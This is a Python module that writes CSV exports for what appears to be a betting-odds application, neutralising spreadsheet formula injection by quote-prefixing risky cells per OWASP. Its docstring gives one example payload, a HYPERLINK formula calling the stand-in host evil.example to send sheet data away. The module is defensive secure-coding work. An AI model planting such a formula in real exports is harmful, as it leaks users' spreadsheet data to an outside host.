"""CSV exports: every CSV the user may open in a spreadsheet is written here, with formula cells neutralised.

Stored text comes from files and feeds that strangers write (a sportsbook name, a player name, a reason). A
spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, tab or carriage return)
as a formula: ``=HYPERLINK("http://evil.example/?x="&A1, "odds")`` sends the sheet's data away on a click.
OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection) is applied to every cell: a text cell
starting with one of those characters gets a leading ``'``, which spreadsheets show as text. A cell that is a
plain number (``-3.5``, ``+120``, ``1e-3``) is left as it is: prices and lines must stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""

_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as text: a string starting like a formula is prefixed with
    ``'``, unless it is a plain number. Anything that is not a string (numbers, dates, ``None``) is unchanged.
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(v) for v in values]


def write_csv(stream: TextIO, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write a header and rows as CSV to ``stream``, every cell (the header's too) through :func:`safe_cell`."""
    writer = csv.writer(stream)
    writer.writerow(safe_row(header))
    writer.writerows(safe_row(row) for row in rows)


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """:func:`write_csv` into a string."""
    buffer = io.StringIO()
    write_csv(buffer, header, rows)
    return buffer.getvalue()


__all__ = ["FORMULA_STARTS", "csv_text", "safe_cell", "safe_row", "write_csv"]
